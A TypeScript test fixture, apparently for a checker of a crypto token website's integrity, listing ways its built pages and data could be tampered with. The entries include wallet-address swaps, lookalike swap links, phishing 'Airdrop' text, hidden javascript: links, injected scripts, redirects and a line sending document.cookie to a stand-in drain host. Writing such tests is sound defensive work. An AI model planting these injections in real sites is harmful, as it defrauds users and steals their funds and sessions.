import { madeUpAddress } from '../../../test-support/launch-site';

/** What was done, to which file, and how the file's text changes. A new file has none before. */
type Tampering = readonly [deed: string, file: string, change: (text: string, mint: string) => string];

const THIEF = madeUpAddress('thief');
const SOL = 'So11111111111111111111111111111111111111112';

const replace = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to);
const added = (html: string) => replace('</main>', `</main>${html}`);
const inHead = (html: string) => replace('<head>', `<head>${html}`);
const appended = (code: string) => (script: string) => `${script}\n${code}`;
/** One character of the address, where it stands between two other texts. */
const oneOff =
  (before: string, after: string, to = 'x') =>
  (text: string, mint: string) =>
    text.replace(`${before}${mint}${after}`, `${before}${mint.slice(0, 20)}${to}${mint.slice(21)}${after}`);

const page = 'index.html';
const spanish = 'es/index.html';
const arabic = 'ar/index.html';
const arabicData = 'page-data/ar/page-data.json';
const pageData = 'page-data/index/page-data.json';
const script = 'app.js';

/** What the promises of the source show to be wrong. `app.js` stands for the file of that name and its hash. */
export const broken: readonly Tampering[] = [
  ['one character of the shown address', page, oneOff('>', '<')],
  ['a zero in the shown address', page, oneOff('>', '<', '0')],
  ['a letter of another script in the shown address', page, oneOff('>', '<', '\u043e')],
  ['one character of what the button copies', page, oneOff('data-copy="', '"')],
  ['one character in the buy link', page, oneOff('buy=', '')],
  ['one character in the explorer link', page, oneOff('explorer.calmbiscuit.xyz/url/', '')],
  ['one character in the wallet link', page, oneOff('wallet.calmbiscuit.xyz/url/', '')],
  ['one character in the page data', pageData, oneOff('', '')],
  ['the buy link leads to another exchange', page, replace('href="https://swap.', 'href="https://svvap.')],
  [
    'the buy link sells the token',
    page,
    (text, mint) => text.replace(/sell=\w+&amp;buy=\w+/, `sell=${mint}&amp;buy=${SOL}`),
  ],
  [
    'the buy link leads to the explorer',
    page,
    (text, mint) =>
      text.replace(/href="https:\/\/swap\.[^"]+"/, `href="https://explorer.calmbiscuit.xyz/url/${mint}"`),
  ],
  ['the buy link in the page data', pageData, replace('https://swap.', 'https://swap.calmbiscuit.xyz.evil.')],
  [
    'a social link in the page data',
    pageData,
    replace(/https:\/\/socials\.[^"]+/, 'https://socials.calmbiscuit.xyz/drainer'),
  ],
  ['a link is added', page, added('<a href="https://claim-biscuit.xyz">1</a>')],
  [
    'a link to a known host with another path',
    page,
    added('<a href="https://socials.calmbiscuit.xyz/drainer">1</a>'),
  ],
  ['a link without a scheme', page, added('<a href="//claim-biscuit.xyz">1</a>')],
  ['a link behind character references', page, added('<a href=" java&#x73;cript:steal()">1</a>')],
  ['a link in a drawing', page, added('<svg><a xlink:href="https://claim-biscuit.xyz" href="#home"/></svg>')],
  ['a link on a picture', page, added('<map name="m"><area href="https://claim-biscuit.xyz"></map>')],
  ['a link that tells another host', page, replace('<a ', '<a ping="https://claim-biscuit.xyz" ')],
  [
    'a button that sends something',
    page,
    replace('<button ', '<button formaction="https://claim-biscuit.xyz" '),
  ],
  ['a field for a recovery phrase', page, added('<input aria-label="1">')],
  ['the transaction of a burn', page, replace(/(href="https:\/\/explorer\.[^"]*transactionurl\/)\w/, '$11')],
  ['a wallet in the list of burns', page, added(`<ol><li>${THIEF}</li></ol>`)],
  ['the date of a burn in the page data', pageData, replace(/"date":"[^"]+"/, '"date":"Jan 1, 2020"')],
  ['a form', page, added('<form><input></form>')],
  ['a frame over the page', page, added('<iframe src="/deck/share.png"></iframe>')],
  ['a foreign object in a drawing', page, added('<svg><foreignObject><p>1</p></foreignObject></svg>')],
  ['a redirect', page, inHead('<meta HTTP-EQUIV="Refresh" content="0;url=/deck/x">')],
  [
    'a redirect without scripts',
    '404.html',
    inHead('<noscript><meta http-equiv=refresh content=0></noscript>'),
  ],
  ['a base element that turns every address', page, inHead('<base href="/x/">')],
  ['a script in an attribute', page, replace('<img ', '<img onerror="steal()" ')],
  ['a script from another host', page, inHead('<script src="https://cdn-biscuit.xyz/a.js"></script>')],
  ['a picture from another host', page, replace(/srcset="/i, 'srcset="https://track.xyz/a.png 1w, ')],
  ['a changed word', page, replace(/(<h3[^>]*>)[^<]+/, '$1Airdrop')],
  ['a changed word for screen readers', page, replace(/ alt="[^"]+"/, ' alt="Send SOL"')],
  ['a changed word in the description', page, replace(/(name="description" content=")[^"]+/, '$1Airdrop')],
  ['an added sentence', page, added(`<p>Send SOL to ${THIEF}</p>`)],
  ['an added sentence on the 404 page', '404.html', added('<p>Claim here</p>')],
  ['a paragraph is taken out', page, replace(/<section[^>]+about-heading.+?<\/section>/s, '')],
  ['a changed word in the page data', pageData, replace(/"heading":"[^"]+"/, '"heading":"Airdrop"')],
  [
    'another home in the canonical link',
    page,
    replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://x.xyz/"'),
  ],
  ['another profile in the structured data', page, replace('"sameAs":["', '"sameAs":["https://x.xyz","')],
  ['another sitemap', 'robots.txt', replace(/Sitemap: .*/, 'Sitemap: https://other.xyz/sitemap.xml')],
  [
    'another contact for security reports',
    '.well-known/security.txt',
    replace(/Contact: .*/, 'Contact: https://x.xyz/'),
  ],
  ['another wallet in the list of burns', 'burns.csv', replace(/,\w+\n$/, `,${THIEF}\n`)],
  ['another amount in the list of burns', 'burns.json', replace('"amount":"', '"amount":"9')],
  [
    'a link in the feed of burns',
    'burns-feed.json',
    replace(/"url": "[^"]+/, '"url": "https://claim-biscuit.xyz'),
  ],
  [
    'an entry in the feed of burns',
    'burns.atom',
    replace('</feed>', '<entry><title>Claim</title></entry></feed>'),
  ],
  ...['airdrop.html', 'airdrop/index.html', 'airdrop.htm', 'airdrop', 'airdrop.svg', '.env'].map(
    (file): Tampering => ['a file that the site does not have', file, () => '<p>1'],
  ),
  ['one character of the shown address in a translation', spanish, oneOff('>', '<')],
  ['one character of what the button of a translation copies', arabic, oneOff('data-copy="', '"')],
  ['one character in the buy link of a translation', arabic, oneOff('buy=', '')],
  ['one character in the data of a translation', arabicData, oneOff('', '')],
  [
    'the buy link of a translation leads elsewhere',
    spanish,
    replace('href="https://swap.', 'href="https://svvap.'),
  ],
  [
    'a social link in the data of a translation',
    arabicData,
    replace('https://socials.', 'https://socials.x.'),
  ],
  ['a word of a translation', spanish, replace(/(<h3[^>]*>)[^<]+/, '$1Airdrop')],
  [
    'a word of another language in a translation',
    spanish,
    (text) => text.replace(/(?<=<h3[^>]*>)[^<]+/, (words) => words.normalize('NFD').replace(/\p{M}/gu, '')),
  ],
  ['a figure of another language', page, replace('>21,000,000<', '>21.000.000<')],
  ['a figure of a translation has a comma for a point', spanish, replace('>21.000.000<', '>21.000,000<')],
  [
    'a figure of a right-to-left page is not told apart',
    arabic,
    replace(/\u206621,000,000\u2069/, '21,000,000'),
  ],
  ['a figure in the data of a translation', arabicData, replace('"totalSupply":2', '"totalSupply":1')],
  ['the way in which a translation writes figures', arabicData, replace('"group":","', '"group":"."')],
  [
    'the words of a verdict in the data of a translation',
    arabicData,
    replace(/("refuted":")[^"]+/, '$1Proven'),
  ],
  [
    'the date of a burn in the data of a translation',
    arabicData,
    replace(/"date":"[^"]+"/, '"date":"1 Jan 2020"'),
  ],
  ['the language of a page', spanish, replace('<html lang="es"', '<html lang="ar"')],
  ['the direction of a page', arabic, replace('dir="rtl"', 'dir="ltr"')],
  [
    'another home in the canonical link of a translation',
    spanish,
    replace(
      'canonical" href="https://calmbiscuit.xyz/deck/es/',
      'canonical" href="https://calmbiscuit.xyz/deck/',
    ),
  ],
  [
    'another page as the same in Spanish',
    page,
    replace(/(hrefLang="es" href=")[^"]+/, '$1https://x.xyz/es/'),
  ],
  [
    'a page as the same in a language that is not there',
    page,
    inHead('<link rel="alternate" hreflang="fr" href="https://calmbiscuit.xyz/deck/fr/">'),
  ],
  ['a translation is no longer named', page, replace(/<link rel="alternate" hrefLang="ar"[^>]*>/, '')],
  ['search engines are kept from a translation', spanish, inHead('<meta name="robots" content="noindex">')],
  [
    'search engines are let into a page that is half translated',
    'tr/index.html',
    replace('content="noindex"', 'content=""'),
  ],
  ['a link to a language that is not there', page, added('<a href="/deck/fr/">1</a>')],
  [
    'a link to a language leads elsewhere',
    arabic,
    replace(/href="[^"]+"( hrefLang="es")/, 'href="/deck/tr/"$1'),
  ],
  ['a link to a language goes by other words', page, added('<a href="/deck/ar/">1</a>')],
  ['a language in an attribute that the site does not have', page, added('<p lang="fr">1</p>')],
  [
    'the link to the missing texts leads elsewhere',
    arabic,
    replace('https://code.calmbiscuit.xyz/edit', 'https://code.calmbiscuit.xyz/fake'),
  ],
  ['another language in the data of a translation', arabicData, replace('"path":"/es/"', '"path":"/fr/"')],
  [
    'another profile in the structured data of a translation',
    arabic,
    replace('"sameAs":["', '"sameAs":["https://x.xyz","'),
  ],
  ['an added sentence on the 404 page of a translation', 'es/404.html', added('<p>Claim here</p>')],
  [
    'where the app of a translation begins',
    'es/site.webmanifest',
    replace('"start_url": "./"', '"start_url": "https://x.xyz/"'),
  ],
  ['another page in the sitemap', 'sitemap.xml', replace('deck/ar/', 'deck/fr/')],
  ...[
    'fr/index.html',
    'fr/404.html',
    'fr/share.png',
    'fr/site.webmanifest',
    'page-data/fr/page-data.json',
  ].map((file): Tampering => ['a language that the site does not have', file, () => '<p>1']),
  ['rules for the host', '_redirects', () => '/* https://claim-biscuit.xyz 302'],
  ['rules for the host', '_headers', () => '/*\n  Refresh: 0;url=https://claim-biscuit.xyz'],
  ['a service worker', 'sw.js', () => 'addEventListener("fetch", steal)'],
  ['the compressed page alone', 'index.html.br', () => 'not what the page says'],
];

/** What keeps every promise in the pages: code, styles and pictures can do anything. */
export const unseen: readonly Tampering[] = [
  ['another address in a script', script, appended(`var a="${THIEF}"`)],
  [
    'code that joins an address from pieces',
    script,
    appended(`var a="${THIEF.slice(0, 9)}"+"${THIEF.slice(9)}"`),
  ],
  ['code that asks another host', script, appended('fetch("https://drain.xyz/"+document.cookie)')],
  ['a script is added to the page', page, inHead('<script>document.title="x"</script>')],
  [
    'the start-up script does more',
    page,
    replace('(function beforeHydration(', 'steal();(function beforeHydration('),
  ],
  ['an address that a style writes', page, replace('</style>', `code::after{content:"${THIEF}"}</style>`)],
  ['a text of the site in another place', page, added('<p>1</p>')],
  ['another picture', 'share.png', appended('')],
];
